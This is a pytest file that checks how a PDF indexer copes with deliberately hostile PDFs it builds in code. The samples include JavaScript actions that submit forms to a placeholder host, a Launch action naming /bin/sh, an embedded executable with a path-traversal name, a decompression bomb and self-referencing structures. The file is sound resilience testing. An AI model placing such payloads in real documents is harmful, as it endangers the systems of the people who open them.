"""Files made to stop a build, or to run something: each is indexed, or skipped with a reason."""

import zlib
from pathlib import Path

import pytest
from pincite.index import Index, build

from benchmarks.resilience.hostile import make_special_files, read_folder
from benchmarks.resilience.hostile_bombs import write_bombs

TEXT = b"BT /F1 12 Tf 72 720 Td (The ferry of Kell sails at noon, the county said.) Tj ET"
SENTENCE = "The ferry of Kell sails at noon, the county said."
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def make_pdf(
    *,
    catalog: bytes = b"",
    pages: bytes = b"/Kids [3 0 R] /Count 1",
    page: bytes = b"/Contents 4 0 R",
    content: bytes = TEXT,
    stream: bytes = b"",
    resources: bytes = b"/Font << /F1 5 0 R >>",
    more: tuple[bytes, ...] = (),
    trailer: bytes = b"",
) -> bytes:
    """Return a PDF of one page with one sentence; each argument makes a part of it hostile."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages %s >>" % pages,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << %s >> %s >>"
        % (resources, page),
        b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), stream, content),
        FONT,
        *more,
    ]
    data, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        data
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
        + b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (size, trailer)
        + b"startxref\n%d\n%%%%EOF\n" % len(data)
    )


JAVASCRIPT = b"/S /JavaScript /JS (app.alert\\('seen'\\); this.submitForm\\('http://a.example'\\))"
FORM = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
READABLE = {
    "javascript.pdf": make_pdf(catalog=b"/OpenAction << %s >>" % JAVASCRIPT),
    "names.pdf": make_pdf(
        catalog=b"/Names << /JavaScript << /Names [(a) << %s >>] >> >>" % JAVASCRIPT
    ),
    "launch.pdf": make_pdf(
        catalog=b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd) >> >>"
    ),
    "page_action.pdf": make_pdf(page=b"/Contents 4 0 R /AA << /O << %s >> >>" % JAVASCRIPT),
    "attachment.pdf": make_pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
        more=(b"<< /Type /Filespec /F (../../a.exe) >>",),
    ),
    "form_in_itself.pdf": make_pdf(
        content=TEXT + b" /X Do",
        resources=b"/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
        more=(FORM + b" /Length 5 >>\nstream\n/X Do\nendstream",),
    ),
    "huge_box.pdf": make_pdf(page=b"/Contents 4 0 R /MediaBox [-1e300 0 1e300 1e9]"),
    "wrong_count.pdf": make_pdf(pages=b"/Kids [3 0 R] /Count 2000000000"),
    "open_states.pdf": make_pdf(content=b"q " * 50_000 + TEXT),
}
"""Name → a PDF whose sentence can be read, beside what is hostile in it."""
BROKEN = {
    "pages_in_themselves.pdf": make_pdf(pages=b"/Kids [2 0 R] /Count 1"),
    "content_is_its_page.pdf": make_pdf(page=b"/Contents 3 0 R"),
    "previous_is_itself.pdf": make_pdf(trailer=b"/Prev 9"),
    "unknown_cipher.pdf": make_pdf(trailer=b"/Encrypt << /Filter /Secret /V 9 /R 99 >>"),
    "wrong_filter.pdf": make_pdf(stream=b"/Filter /FlateDecode"),
    "filters.pdf": make_pdf(stream=b"/Filter [%s]" % (b"/ASCIIHexDecode " * 5_000)),
    "parents.pdf": make_pdf(more=(b"[" * 30_000 + b"]" * 30_000,)),
    "bomb.pdf": make_pdf(content=zlib.compress(bytes(200_000_000)), stream=b"/Filter /FlateDecode"),
    "cut.pdf": make_pdf()[:400],
    "head.pdf": b"%PDF-1.7\n",
}


def test_hostile_pdfs_are_read_or_skipped_with_a_reason(tmp_path: Path) -> None:
    folder = tmp_path / "articles"
    folder.mkdir()
    for name, data in {**READABLE, **BROKEN}.items():
        (folder / name).write_bytes(data)
    (folder / "pier.txt").write_text("The pier opened on 3 March 1887.")
    report = build(folder, tmp_path / "index")
    index = Index.open(tmp_path / "index")
    texts = {article.source: article.text for article in index.articles()}
    skipped = {each.path.split(":")[0]: each.reason for each in report.skipped}
    assert texts["pier.txt"] == "The pier opened on 3 March 1887."
    assert texts.keys() | skipped.keys() == {*READABLE, *BROKEN, "pier.txt"}
    assert all(reason and "\n" not in reason for reason in skipped.values())
    assert {name: texts.get(name) for name in READABLE} == dict.fromkeys(READABLE, SENTENCE)
    assert {text for name, text in texts.items() if name in BROKEN} <= {SENTENCE}


@pytest.mark.nightly
def test_bombs_and_special_files_are_read_or_skipped_with_a_reason(tmp_path: Path) -> None:
    folder = tmp_path / "articles"
    folder.mkdir()
    kinds = {**write_bombs(folder), **make_special_files(folder)}
    outcomes = list(read_folder(folder, kinds))
    assert len(outcomes) >= len(kinds) - 1
    assert [failure for each in outcomes for failure in each.failures] == []
